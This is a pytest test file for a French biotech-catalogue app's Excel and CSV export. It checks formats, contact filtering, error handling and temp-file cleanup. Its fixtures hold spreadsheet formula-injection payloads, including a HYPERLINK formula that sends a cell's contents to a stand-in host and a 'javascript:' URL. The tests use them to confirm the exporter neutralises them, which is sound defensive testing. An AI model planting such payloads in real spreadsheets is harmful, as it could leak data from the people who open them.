"""Excel / CSV export: files are read back with openpyxl (and once with LibreOffice)."""
from __future__ import annotations

import codecs
import csv
import errno
import gc
import os
import shutil
import subprocess
import sys
import zipfile
from datetime import date, datetime, timezone

import openpyxl
import pytest
from openpyxl.worksheet import _writer as openpyxl_writer

from eco_desktop import __version__, export
from eco_desktop.errors import UserError
from eco_desktop.filter import Filter
from eco_desktop.export import (ACTOR_COLUMNS, DEFAULT_COLUMNS, ExportCancelled, export_csv,
                                export_xlsx, suggest_filename)


def make_actor(id: int, **over) -> dict:
    actor = {
        "id": id, "name": f"Acteur {id}", "aliases": [], "kind": "biotech",
        "domains": ["gene_therapy", "cell_therapy"], "activities": ["research"],
        "tags": ["pépite"], "description": "Thérapies géniques AAV.",
        "website": f"https://www.acteur{id}.fr", "email": f"contact@acteur{id}.fr",
        "phone": "01 23 45 67 89", "siren": "012345678", "siret": "01234567800012",
        "naf": "72.11Z", "size": "PME", "founded": 2015, "status": "active",
        "street": "1 rue de l'Innovation", "postcode": "01000", "commune": "Évry-Courcouronnes",
        "insee_code": "01053", "departement": "91", "mgp": False, "ept": "", "epci": "200059228",
        "outside_idf": False, "lat": 48.63, "lon": 2.44, "geo_precision": "address",
        "source": "étude 2024", "created_at": "2026-11-27T10:15:00+00:00",
        "updated_at": "2026-11-28T16:45:00+00:00",
    }
    actor.update(over)
    return actor


def make_contact(id: int, actor_id: int, **over) -> dict:
    contact = {
        "id": id, "actor_id": actor_id, "civility": "Mme", "first_name": "Anne",
        "last_name": f"Martin{id}", "role": "Directrice", "email": f"anne{id}@exemple.fr",
        "phone": "06 12 34 56 78", "legal_basis": "consent", "basis_date": "2026-01-15",
        "opt_out": False, "notes": "", "created_at": "", "updated_at": "",
    }
    contact.update(over)
    return contact


def local(iso: str) -> datetime:
    return datetime.fromisoformat(iso).astimezone().replace(tzinfo=None)


def sheet_dicts(ws) -> list[dict]:
    rows = list(ws.iter_rows())
    headers = [c.value for c in rows[0]]
    return [dict(zip(headers, row)) for row in rows[1:]]


@pytest.fixture
def actors():
    return [
        make_actor(1),
        make_actor(2, name="=1+1", description="+SUM(A1:A2)", street="@cmd", commune="-2+3",
                   website="javascript:alert(1)", email="pas un e-mail", aliases=["=HYPERLINK(1)"],
                   kind="pharma", domains=[], activities=[], tags=[], mgp=True, founded=None,
                   lat=None, lon=None, postcode="75001", siren="", naf="#N/A"),
        make_actor(3, website="www.acteur3.fr", name="Tab\tcontrol\x01char", email=""),
    ]


@pytest.fixture
def contacts():
    return [
        make_contact(10, 1),
        make_contact(11, 1, legal_basis="", last_name="SansBase"),
        make_contact(12, 2, opt_out=True, last_name="Oppose", legal_basis="legitimate_interest"),
        make_contact(13, 3, legal_basis="legitimate_interest", basis_date=""),
        make_contact(14, 99),  # actor not exported
    ]


def test_sheets_rows_and_header(tmp_path, actors, contacts):
    path = export_xlsx(tmp_path / "a.xlsx", actors, contacts=contacts)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Acteurs", "Contacts", "Critères"]
    ws = wb["Acteurs"]
    assert ws.max_row == 4 and ws.max_column == len(DEFAULT_COLUMNS)
    header = [c.value for c in ws[1]]
    assert header == [ACTOR_COLUMNS[k] for k in DEFAULT_COLUMNS]
    assert header[0] == "Nom" and header[-1] == "Identifiant"
    assert all(c.font.b for c in ws[1])
    assert ws["A1"].fill.fgColor.rgb.endswith(export.HEADER_FILL)
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:R4"
    assert not ws["A2"].font.b

    without = export_xlsx(tmp_path / "b.xlsx", actors)
    assert openpyxl.load_workbook(without).sheetnames == ["Acteurs", "Critères"]


def test_widths_fitted_and_capped(tmp_path):
    actor = make_actor(1, description="mot " * 200, name="X")
    ws = openpyxl.load_workbook(export_xlsx(tmp_path / "a.xlsx", [actor]))["Acteurs"]
    widths = {ws.cell(1, i + 1).value: ws.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width
              for i in range(ws.max_column)}
    assert widths["Description"] == export.MAX_WIDTH
    assert 6 <= widths["Nom"] < 15
    assert ws.cell(2, DEFAULT_COLUMNS.index("description") + 1).alignment.wrap_text


def test_values_types_and_labels(tmp_path, actors):
    path = export_xlsx(tmp_path / "a.xlsx", actors, columns=list(ACTOR_COLUMNS))
    first, second, third = sheet_dicts(openpyxl.load_workbook(path)["Acteurs"])

    for key in ("Code postal", "SIREN", "SIRET", "Téléphone", "Code INSEE", "EPCI"):
        assert first[key].data_type == "s" and first[key].number_format == "@", key
    assert first["Code postal"].value == "01000"
    assert first["SIREN"].value == "012345678"
    assert first["SIRET"].value == "01234567800012"
    assert first["Code INSEE"].value == "01053"
    assert first["Téléphone"].value == "01 23 45 67 89"

    assert isinstance(first["Créé le"].value, datetime)
    assert first["Créé le"].value == local("2026-11-27T10:15:00+00:00")
    assert first["Modifié le"].value == local("2026-11-28T16:45:00+00:00")
    assert first["Créé le"].is_date
    assert first["Année de création"].value == 2015 and first["Identifiant"].value == 1
    assert first["Latitude"].value == pytest.approx(48.63)

    assert first["Type"].value == "Entreprise de biothérapie"
    assert first["Domaines"].value == "Thérapie génique; Thérapie cellulaire"
    assert first["Activités"].value == "R&D"
    assert first["Statut"].value == "En activité"
    assert first["Précision de la position"].value == "Adresse"
    assert first["Métropole du Grand Paris"].value == "non"
    assert second["Métropole du Grand Paris"].value == "oui"
    assert first["Hors Île-de-France"].value == "non"
    assert first["Étiquettes"].value == "pépite"
    assert second["Année de création"].value is None and second["Latitude"].value is None
    assert second["SIREN"].value is None
    # XML cannot hold \x01: removed; the tab is kept
    assert third["Nom"].value == "Tab\tcontrolchar"


def test_renamed_labels_are_used(tmp_path):
    labels = export.default_labels()
    labels["kind"]["biotech"] = "Biotech (renommé)"
    labels["domain"]["gene_therapy"] = "Génique"
    ws = openpyxl.load_workbook(export_xlsx(tmp_path / "a.xlsx", [make_actor(1)], labels=labels))["Acteurs"]
    row = sheet_dicts(ws)[0]
    assert row["Type"].value == "Biotech (renommé)"
    assert row["Domaines"].value == "Génique; Thérapie cellulaire"


def test_hyperlinks_only_for_safe_schemes(tmp_path, actors):
    path = export_xlsx(tmp_path / "a.xlsx", actors)
    first, second, third = sheet_dicts(openpyxl.load_workbook(path)["Acteurs"])
    assert first["Site web"].hyperlink.target == "https://www.acteur1.fr"
    assert first["Site web"].value == "https://www.acteur1.fr"
    assert first["E-mail"].hyperlink.target == "mailto:contact@acteur1.fr"
    assert first["E-mail"].value == "contact@acteur1.fr"
    assert second["Site web"].hyperlink is None
    assert second["Site web"].value == "javascript:alert(1)"
    assert second["E-mail"].hyperlink is None and second["E-mail"].value == "pas un e-mail"
    assert third["Site web"].hyperlink.target == "https://www.acteur3.fr"
    assert third["E-mail"].value is None


def test_formula_like_values_stay_text_in_xlsx(tmp_path, actors):
    path = export_xlsx(tmp_path / "a.xlsx", actors, columns=list(ACTOR_COLUMNS))
    second = sheet_dicts(openpyxl.load_workbook(path)["Acteurs"])[1]
    expected = {"Nom": "=1+1", "Description": "+SUM(A1:A2)", "Adresse": "@cmd",
                "Commune": "-2+3", "Autres noms": "=HYPERLINK(1)", "Code NAF": "#N/A"}
    for header, value in expected.items():
        assert second[header].value == value, header
        assert second[header].data_type == "s", header
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name)


def test_contacts_usable_only_by_default(tmp_path, actors, contacts):
    path = export_xlsx(tmp_path / "a.xlsx", actors, contacts=contacts)
    ws = openpyxl.load_workbook(path)["Contacts"]
    header = [c.value for c in ws[1]]
    assert header[:4] == ["Organisation", "Type", "Commune", "Code postal"]
    assert "Base légale" not in header and "Opposition" not in header
    rows = sheet_dicts(ws)
    assert [r["Nom"].value for r in rows] == ["Martin10", "Martin13"]
    assert rows[0]["Organisation"].value == "Acteur 1"
    assert rows[0]["Code postal"].value == "01000"
    assert rows[0]["E-mail"].hyperlink.target == "mailto:anne10@exemple.fr"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}3"


def test_contacts_all(tmp_path, actors, contacts):
    path = export_xlsx(tmp_path / "a.xlsx", actors, contacts=contacts, all_contacts=True)
    ws = openpyxl.load_workbook(path)["Contacts"]
    rows = sheet_dicts(ws)
    assert [r["Nom"].value for r in rows] == ["Martin10", "SansBase", "Oppose", "Martin13"]
    by_name = {r["Nom"].value: r for r in rows}
    assert by_name["Martin10"]["Base légale"].value == "Consentement"
    assert by_name["Martin10"]["Date de la base légale"].value == datetime(2026, 1, 15)
    assert by_name["Martin10"]["Utilisable"].value == "oui"
    assert by_name["SansBase"]["Base légale"].value is None
    assert by_name["SansBase"]["Utilisable"].value == "non"
    assert by_name["Oppose"]["Opposition"].value == "oui"
    assert by_name["Oppose"]["Organisation"].value == "=1+1"
    assert by_name["Oppose"]["Organisation"].data_type == "s"


def test_criteria_sheet(tmp_path, actors, contacts):
    when = datetime(2026, 11, 27, 14, 30)
    path = export_xlsx(tmp_path / "a.xlsx", actors, contacts=contacts, when=when, total=40,
                       catalogue="/data/catalogue.sqlite",
                       criteria=["Type d'acteur : Entreprise de biothérapie", "Département : 91"])
    ws = openpyxl.load_workbook(path)["Critères"]
    pairs = [(r[0].value, r[1].value) for r in ws.iter_rows(min_row=2)]
    assert ws["A1"].value == "Élément" and ws["A1"].font.b
    assert ("Export", f"eco_desktop {__version__}") in pairs
    assert ("Date de l'export", "27/11/2026 à 14:30") in pairs
    assert ("Catalogue", "/data/catalogue.sqlite") in pairs
    assert ("Acteurs exportés", "3 sur 40") in pairs
    assert ("Contacts exportés", "2") in pairs
    assert ("Critère", "Type d'acteur : Entreprise de biothérapie") in pairs
    assert ("Critère", "Département : 91") in pairs

    plain = export_xlsx(tmp_path / "b.xlsx", actors)
    pairs = [(r[0].value, r[1].value) for r in openpyxl.load_workbook(plain)["Critères"].iter_rows(min_row=2)]
    assert ("Critère", "aucun : tout le catalogue") in pairs
    assert not any(k == "Contacts exportés" for k, _ in pairs)


def test_csv_bom_separator_and_injection(tmp_path, actors, contacts):
    written = export_csv(tmp_path / "liste.csv", actors, columns=list(ACTOR_COLUMNS),
                         contacts=contacts)
    assert written == [tmp_path / "liste.csv", tmp_path / "liste-contacts.csv"]
    raw = (tmp_path / "liste.csv").read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Nom;Autres noms;Type;")
    rows = list(csv.DictReader(text.splitlines(), delimiter=";"))
    assert len(rows) == 3
    first, second, _third = rows
    assert first["Code postal"] == "01000" and first["SIREN"] == "012345678"
    assert first["Domaines"] == "Thérapie génique; Thérapie cellulaire"
    assert first["Latitude"] == "48,63"
    assert first["Créé le"] == local("2026-11-27T10:15:00+00:00").strftime("%d/%m/%Y %H:%M")
    assert second["Nom"] == "'=1+1"
    assert second["Description"] == "'+SUM(A1:A2)"
    assert second["Adresse"] == "'@cmd"
    assert second["Commune"] == "'-2+3"
    assert second["Métropole du Grand Paris"] == "oui"

    ctext = (tmp_path / "liste-contacts.csv").read_bytes()
    assert ctext.startswith(codecs.BOM_UTF8)
    crows = list(csv.DictReader(ctext.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert [r["Nom"] for r in crows] == ["Martin10", "Martin13"]


def test_csv_tab_and_cr_are_prefixed():
    assert export.csv_safe("\tx") == "'\tx" and export.csv_safe("\rx") == "'\rx"
    assert export.csv_safe("Paris") == "Paris"


def test_progress_and_cancel(tmp_path):
    many = [make_actor(i) for i in range(1, 1201)]
    calls = []
    export_xlsx(tmp_path / "ok.xlsx", many, progress=lambda done, total: calls.append((done, total)))
    assert calls == [(500, 1200), (1000, 1200), (1200, 1200)]

    temp_files = len(openpyxl_writer.ALL_TEMP_FILES)
    answers = iter([False, False, True])
    with pytest.raises(ExportCancelled):
        export_xlsx(tmp_path / "cancelled.xlsx", many, cancelled=lambda: next(answers))
    with pytest.raises(ExportCancelled):
        export_csv(tmp_path / "cancelled.csv", many, cancelled=lambda: True)
    assert sorted(os.listdir(tmp_path)) == ["ok.xlsx"]
    assert len(openpyxl_writer.ALL_TEMP_FILES) == temp_files


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0,
                    reason="root writes in read-only folders")
def test_read_only_folder_real(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        with pytest.raises(UserError, match="n'est pas accessible en écriture"):
            export_xlsx(folder / "a.xlsx", [make_actor(1)])
        assert os.listdir(folder) == []
    finally:
        folder.chmod(0o755)


def test_unwritable_folder(tmp_path, monkeypatch):
    real_open = os.open

    def refuse(path, *args, **kwargs):
        if str(path).startswith(str(tmp_path)):
            raise PermissionError(errno.EACCES, "Permission denied")
        return real_open(path, *args, **kwargs)
    monkeypatch.setattr(os, "open", refuse)
    with pytest.raises(UserError, match="le dossier n'est pas accessible en écriture") as info:
        export_xlsx(tmp_path / "a.xlsx", [make_actor(1)])
    assert str(tmp_path / "a.xlsx") in str(info.value)
    with pytest.raises(UserError, match="pas accessible"):
        export_csv(tmp_path / "a.csv", [make_actor(1)])
    assert os.listdir(tmp_path) == []


def test_missing_folder(tmp_path):
    with pytest.raises(UserError, match="n'existe pas"):
        export_xlsx(tmp_path / "absent" / "a.xlsx", [make_actor(1)])


def test_disk_full_leaves_previous_file(tmp_path, monkeypatch):
    target = tmp_path / "a.xlsx"
    target.write_bytes(b"previous")

    def half_written(wb, fh):
        fh.write(b"PK\x03\x04 half")
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(export, "save_workbook", half_written)
    with pytest.raises(UserError, match="le disque est plein"):
        export_xlsx(target, [make_actor(1)])
    assert os.listdir(tmp_path) == ["a.xlsx"]
    assert target.read_bytes() == b"previous"


def test_locked_target(tmp_path, monkeypatch):
    target = tmp_path / "a.xlsx"
    target.write_bytes(b"previous")

    def locked(src, dst):
        raise PermissionError(errno.EACCES, "The process cannot access the file")
    monkeypatch.setattr(export.os, "replace", locked)
    with pytest.raises(UserError, match="ouvert dans un autre programme"):
        export_xlsx(target, [make_actor(1)])
    assert os.listdir(tmp_path) == ["a.xlsx"]
    assert target.read_bytes() == b"previous"


def test_overwrites_existing_file(tmp_path):
    target = tmp_path / "a.xlsx"
    target.write_bytes(b"previous")
    export_xlsx(target, [make_actor(1)])
    assert openpyxl.load_workbook(target)["Acteurs"]["A2"].value == "Acteur 1"
    assert os.listdir(tmp_path) == ["a.xlsx"]


def test_unknown_column():
    with pytest.raises(UserError, match="Colonne inconnue : « nope »"):
        export_xlsx("unused.xlsx", [make_actor(1)], columns=["name", "nope"])


def test_suggest_filename():
    when = date(2026, 11, 27)
    assert suggest_filename("Thérapie génique — Essonne", when) == \
        "acteurs-therapie-genique-essonne-2026-11-27.xlsx"
    assert suggest_filename("", when, "csv") == "acteurs-2026-11-27.csv"
    assert suggest_filename(None, datetime(2026, 1, 2, 23, 0), ".csv") == "acteurs-2026-01-02.csv"


def test_raw_write_only_baseline(tmp_path):
    rows = [["Nom", "SIREN"], ["A", "012345678"]]
    export.raw_write_only(tmp_path / "raw.xlsx", rows)
    ws = openpyxl.load_workbook(tmp_path / "raw.xlsx").active
    assert [[c.value for c in r] for r in ws.iter_rows()] == rows


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_libreoffice_opens_the_file(tmp_path, actors, contacts):
    path = export_xlsx(tmp_path / "a.xlsx", actors, contacts=contacts)
    out = tmp_path / "out"
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):59,34,76,1", "--outdir", str(out),
                    str(path)], check=True, capture_output=True, timeout=180)
    text = (out / "a.csv").read_text(encoding="utf-8")
    assert "Acteur 1" in text and "01000" in text and "012345678" in text
    assert "=1+1" in text and ";2;" not in text  # the formula-like name was not computed


# --------------------------------------------------------------------------- from a catalogue

def test_export_from_catalogue_order_progress_and_message(tmp_path, catalogue, monkeypatch):
    monkeypatch.setattr(export, "LOAD_CHUNK", 10)
    ids = list(reversed(catalogue.actor_ids()))[:25]
    seen = []
    result = export.export_from_catalogue(catalogue, tmp_path / "x.xlsx", ids, contacts=True,
                                          criteria=["Sélection"], progress=lambda d, t: seen.append((d, t)))
    assert result.paths == [tmp_path / "x.xlsx"] and (result.actors, result.contacts) == (25, 0)
    assert result.message() == f"25 acteurs et 0 contact exportés dans {tmp_path / 'x.xlsx'}"
    assert seen[:3] == [(10, 50), (20, 50), (25, 50)] and seen[-1] == (50, 50)
    ws = openpyxl.load_workbook(result.path)["Acteurs"]
    assert [r[0] for r in ws.iter_rows(min_row=2, values_only=True)] == \
        [a["name"] for a in catalogue.actors_by_ids(ids)]


def test_export_from_catalogue_cancel_between_chunks(tmp_path, catalogue, monkeypatch):
    monkeypatch.setattr(export, "LOAD_CHUNK", 5)
    calls = []

    def cancelled():
        calls.append(1)
        return len(calls) > 2

    with pytest.raises(ExportCancelled):
        export.export_from_catalogue(catalogue, tmp_path / "x.csv", catalogue.actor_ids(),
                                     contacts=True, cancelled=cancelled)
    assert len(calls) == 3  # cancelled before the third chunk was read
    assert [p.name for p in tmp_path.iterdir() if not p.name.startswith("catalogue.sqlite")] == []


def test_export_format():
    assert export.export_format("a.XLSX") == "xlsx" and export.export_format("b.csv") == "csv"
    for bad in ("a.xls", "a", "a.txt"):
        with pytest.raises(UserError, match="xlsx"):
            export.export_format(bad)
    assert export.ExportResult([], 1, None).message().startswith("1 acteur exporté dans")


def test_public_cell_sanitiser_on_a_normal_workbook(tmp_path):
    # The person export (privacy.py) writes a normal, not write-only, workbook: the
    # same rules must hold there through the public function.
    wb = openpyxl.Workbook()
    ws = wb.active
    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"clic")', "+1+1", "-2", "@SUM(A1)",
               "\tx", "\rx", "#N/A", "note\x01\x07 ok", "nom \ud800 seul"]
    for i, value in enumerate(hostile, 1):
        export.set_safe_value(ws.cell(row=i, column=1), value)
    export.set_safe_value(ws.cell(row=1, column=2), 42)
    wb.save(tmp_path / "p.xlsx")
    back = openpyxl.load_workbook(tmp_path / "p.xlsx").active
    cells = [back.cell(row=i, column=1) for i in range(1, len(hostile) + 1)]
    assert all(c.data_type == "s" for c in cells)
    # XML reads a lone CR back as a line feed: the text is kept, not its line ending.
    assert [c.value for c in cells[:7]] == [v.replace("\r", "\n") for v in hostile[:7]]
    assert cells[7].value == "note ok" and cells[8].value == "nom \ufffd seul"
    assert back.cell(row=1, column=2).value == 42


def test_clean_text_and_csv_safe_remove_control_characters():
    assert export.clean_text("a\x00b\x1fc\td\ne") == "abc\td\ne"
    assert len(export.clean_text("x" * 40000)) == export.CELL_MAX_CHARS == 32767
    assert export.csv_safe("\x01=cmd") == "'=cmd"


# --------------------------------------------------------------------------- full disk, leftovers

class _FullDisk:
    """A zip archive's file on a disk that fills up after ``room`` bytes and stays full."""

    def __init__(self, fp, room: int) -> None:
        self._fp = fp
        self._room = room

    def write(self, data):
        if len(data) > self._room:
            self._room = 0
            raise OSError(errno.ENOSPC, "No space left on device")
        self._room -= len(data)
        return self._fp.write(data)

    def __getattr__(self, name):
        return getattr(self._fp, name)


@pytest.fixture
def full_disk(monkeypatch):
    """Every zip written fills the disk after 3,000 bytes; unraisable exceptions (what
    ``ZipFile.__del__`` prints as « Exception ignored in ») are collected."""
    real_init = zipfile.ZipFile.__init__

    def init(self, file, mode="r", *args, **kwargs):
        real_init(self, file, mode, *args, **kwargs)
        if mode == "w":
            self.fp = _FullDisk(self.fp, 3000)
    monkeypatch.setattr(zipfile.ZipFile, "__init__", init)
    unraisable = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    return unraisable


def test_disk_full_mid_xlsx_prints_nothing_and_leaves_nothing(tmp_path, full_disk):
    many = [make_actor(i) for i in range(1, 300)]
    with pytest.raises(UserError, match="le disque est plein") as caught:
        export_xlsx(tmp_path / "a.xlsx", many, contacts=[make_contact(1, 1)])
    del caught  # its traceback holds the frames, hence the workbook's zip
    gc.collect()
    assert [str(u.exc_value) for u in full_disk] == []
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o002, 0o664)])
def test_files_follow_the_users_umask(tmp_path, umask, mode):
    # mkstemp's 0600 kept colleagues on a shared folder from opening the export.
    old = os.umask(umask)
    try:
        export_xlsx(tmp_path / "a.xlsx", [make_actor(1)])
        export_csv(tmp_path / "a.csv", [make_actor(1)], contacts=[make_contact(1, 1)])
    finally:
        os.umask(old)
    for name in ("a.xlsx", "a.csv", "a-contacts.csv"):
        assert (tmp_path / name).stat().st_mode & 0o777 == mode, name


KILLED_EXPORT = """
import sys, time
from eco_desktop import export

def stall(done, total):
    print("writing", flush=True)
    time.sleep(120)
actors = [{"id": i, "name": f"Acteur {i}"} for i in range(1, 1200)]
export.export_xlsx(sys.argv[1], actors, progress=stall)
"""


def test_an_export_killed_with_sigkill_is_cleaned_up_by_the_next(tmp_path):
    import signal
    target = tmp_path / "liste.xlsx"
    child = subprocess.Popen([sys.executable, "-c", KILLED_EXPORT, str(target)],
                             stdout=subprocess.PIPE, text=True)
    try:
        assert child.stdout.readline() == "writing\n"
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait(timeout=30)
        child.stdout.close()
    left = os.listdir(tmp_path)
    assert len(left) == 1 and left[0].startswith(".~liste.") and left[0].endswith(".tmp")
    assert f".{child.pid}." in left[0]  # its owner, so that the next export knows it is dead
    export_xlsx(target, [make_actor(1)])
    assert os.listdir(tmp_path) == ["liste.xlsx"]


def test_the_sweep_spares_live_writers_and_other_computers(tmp_path):
    from eco_desktop import atomic
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        here = atomic._HOST
        other = "000000" if here != "000000" else "111111"
        names = {
            f".~autre.{here}.{sleeper.pid}.0123abcd.tmp": True,       # a live export here
            f".~autre.{other}.999999.0123abcd.tmp": True,            # another computer's
            f".~vieux.{other}.999999.0123abcd.tmp": False,           # … abandoned long ago
            ".~vieux-a1b2_c3d.tmp": False,                            # an old version's, old
            ".~recent-a1b2_c3d.tmp": True,                            # … recent: maybe alive
            ".~notes.tmp": True,                                      # not ours
            "rapport.xlsx": True,
        }
        for name in names:
            (tmp_path / name).write_bytes(b"x")
        two_days_ago = datetime.now().timestamp() - 2 * 24 * 3600
        for name in (f".~vieux.{other}.999999.0123abcd.tmp", ".~vieux-a1b2_c3d.tmp"):
            os.utime(tmp_path / name, (two_days_ago, two_days_ago))
        export_csv(tmp_path / "liste.csv", [make_actor(1)])
        assert sorted(os.listdir(tmp_path)) == sorted([n for n, kept in names.items() if kept] + ["liste.csv"])
    finally:
        sleeper.kill()
        sleeper.wait()


def test_hyperlinks_stop_at_excels_limit_per_sheet(tmp_path, monkeypatch):
    assert export.MAX_HYPERLINKS == 65530  # Excel repairs a sheet holding more
    monkeypatch.setattr(export, "MAX_HYPERLINKS", 3)
    actors = [make_actor(i) for i in range(1, 5)]  # a website and an e-mail each
    contacts = [make_contact(10 + i, i) for i in range(1, 5)]
    export_xlsx(tmp_path / "a.xlsx", actors, contacts=contacts)
    wb = openpyxl.load_workbook(tmp_path / "a.xlsx")
    rows = sheet_dicts(wb["Acteurs"])
    cells = [cell for row in rows for cell in (row["Site web"], row["E-mail"])]
    assert [c.hyperlink is not None for c in cells] == [True] * 3 + [False] * 5
    assert [c.value for c in cells[3:]] == ["contact@acteur2.fr", "https://www.acteur3.fr",
                                            "contact@acteur3.fr", "https://www.acteur4.fr",
                                            "contact@acteur4.fr"]  # kept as text
    assert all(c.data_type == "s" for c in cells)
    mails = [row["E-mail"] for row in sheet_dicts(wb["Contacts"])]  # each sheet its own limit
    assert [c.hyperlink is not None for c in mails] == [True] * 3 + [False]


def test_csv_values_are_cleaned_like_the_xlsx(tmp_path):
    actors = [make_actor(1, name="\x01=cmd", description="x" * 40000), make_actor(2, name="Sain\x07t")]
    export_csv(tmp_path / "a.csv", actors)
    rows = list(csv.DictReader((tmp_path / "a.csv").read_text(encoding="utf-8-sig").splitlines(),
                               delimiter=";"))
    assert rows[0]["Nom"] == "'=cmd" and len(rows[0]["Description"]) == 32767
    assert rows[1]["Nom"] == "Saint"


# --------------------------------------------------------------------------- rows straight from SQLite

def _cells(path) -> dict:
    """Every cell of every data sheet: value, number format, hyperlink, style name."""
    wb = openpyxl.load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        if ws.title == "Critères":
            continue
        out[ws.title] = [[(c.value, c.number_format, c.hyperlink.target if c.hyperlink else None,
                           c.style, c.data_type) for c in row] for row in ws.iter_rows()]
        out[ws.title + " widths"] = {k: d.width for k, d in ws.column_dimensions.items()}
        out[ws.title + " filter"] = ws.auto_filter.ref
    return out


def _dict_path_export(catalogue, path, ids, *, all_contacts: bool):
    """The export as it was built before rows were streamed: actor dicts, then the writer."""
    actors = catalogue.actors_by_ids(ids)
    contacts = catalogue.contacts(actor_ids=[a["id"] for a in actors], usable_only=not all_contacts)
    writer = export.export_xlsx if str(path).endswith(".xlsx") else export.export_csv
    return writer(path, actors, columns=list(ACTOR_COLUMNS), contacts=contacts,
                  all_contacts=all_contacts, labels=export.catalogue_labels(catalogue))


def _hostile_actors(catalogue) -> None:
    """Values the writers must keep as text, clean or leave unlinked."""
    first = catalogue.create_actor({"name": "=1+1", "kind": "biotech", "description": "+SUM(A1:A2)",
                                    "street": "@cmd", "website": "javascript:alert(1)",
                                    "email": "pas un e-mail", "aliases": ["=HYPERLINK(1)"],
                                    "tags": ["-2+3"], "postcode": "01000"})
    catalogue.add_contact(first, {"first_name": "=cmd", "last_name": "Zéro", "email": "z@exemple.fr",
                                  "legal_basis": "consent"})
    catalogue.add_contact(first, {"first_name": "Sans", "last_name": "Base"})


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
@pytest.mark.parametrize("all_contacts", [False, True])
def test_streamed_rows_are_the_dict_paths_cells_on_the_seeded_catalogue(
        tmp_path, catalogue, monkeypatch, suffix, all_contacts):
    _hostile_actors(catalogue)
    monkeypatch.setattr(export, "MAX_HYPERLINKS", 7)  # the limit is reached on both paths
    ids = catalogue.actor_ids()
    ids = ids[::2] + ids[1::2]  # an order of the user's, not the table's
    old = _dict_path_export(catalogue, tmp_path / f"old.{suffix}", ids, all_contacts=all_contacts)
    new = export.export_from_catalogue(catalogue, tmp_path / f"new.{suffix}", ids, contacts=True,
                                       columns=list(ACTOR_COLUMNS), all_contacts=all_contacts)
    if suffix == "xlsx":
        assert _cells(new.path) == _cells(old)
    else:
        assert [p.read_bytes() for p in new.paths] == [p.read_bytes() for p in old]
    assert new.contacts == (len(catalogue.contacts(actor_ids=ids)) if all_contacts else
                            len(catalogue.contacts(actor_ids=ids, usable_only=True)))


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_streamed_rows_are_the_dict_paths_cells_on_a_synthetic_catalogue(tmp_path, monkeypatch, suffix):
    from eco_desktop import synth
    catalogue = synth.build_synthetic_catalogue(tmp_path / "synth.sqlite", 400)
    try:
        monkeypatch.setattr(export, "_SCAN_FROM", 100)  # the one-pass read of the whole table
        monkeypatch.setattr(export, "LOAD_CHUNK", 64)
        ids = list(reversed(catalogue.actor_ids()))[:350]
        old = _dict_path_export(catalogue, tmp_path / f"old.{suffix}", ids, all_contacts=True)
        new = export.export_from_catalogue(catalogue, tmp_path / f"new.{suffix}", ids,
                                           columns=list(ACTOR_COLUMNS), all_contacts=True)
        assert new.actors == 350 and new.contacts
        if suffix == "xlsx":
            assert _cells(new.path) == _cells(old)
        else:
            assert [p.read_bytes() for p in new.paths] == [p.read_bytes() for p in old]
    finally:
        catalogue.close()


def test_the_catalogue_export_builds_no_actor_dicts(tmp_path, catalogue, monkeypatch):
    def refused(*args, **kwargs):
        raise AssertionError("actor dicts built for the export")
    monkeypatch.setattr(catalogue, "actors_by_ids", refused)
    monkeypatch.setattr(catalogue, "iter_actors", refused)
    monkeypatch.setattr(export, "actor_rows", refused)
    result = export.export_from_catalogue(catalogue, tmp_path / "x.xlsx", catalogue.actor_ids(),
                                          contacts=True)
    assert result.actors == catalogue.total()


def criteria_of(path) -> list:
    ws = openpyxl.load_workbook(path)["Critères"]
    return [value for key, value in ws.iter_rows(min_row=2, values_only=True) if key == "Critère"]


def test_the_export_takes_the_filter_and_says_it(tmp_path, catalogue):
    flt = Filter(kinds=("biotech",), mgp=True)
    result = export.export_from_catalogue(catalogue, tmp_path / "x.xlsx", flt)
    assert result.actors == len(catalogue.actor_ids(flt)) > 0
    assert criteria_of(result.path) == catalogue.describe(flt)
    ws = openpyxl.load_workbook(result.path)["Acteurs"]
    assert [r[0] for r in ws.iter_rows(min_row=2, values_only=True)] == \
        [a["name"] for a in catalogue.actors_by_ids(catalogue.actor_ids(flt))]


def test_a_selection_or_a_sorted_list_is_said_on_the_criteria_sheet(tmp_path, catalogue):
    flt = Filter(kinds=("biotech",))
    listed = catalogue.actor_ids(flt)
    chosen = listed[:3]
    result = export.export_from_catalogue(catalogue, tmp_path / "sel.xlsx", flt, ids=chosen,
                                          view_name="Biotechs")
    assert result.actors == 3
    assert criteria_of(result.path) == [
        "Vue enregistrée « Biotechs »",
        "Sélection de 3 acteurs dans la liste ainsi filtrée", *catalogue.describe(flt)]
    result = export.export_from_catalogue(catalogue, tmp_path / "sorted.xlsx", flt,
                                          ids=list(reversed(listed)))
    assert criteria_of(result.path) == [*catalogue.describe(flt), "Dans l'ordre de la liste affichée"]
    ws = openpyxl.load_workbook(result.path)["Acteurs"]
    assert [r[-1] for r in ws.iter_rows(min_row=2, values_only=True)] == list(reversed(listed))
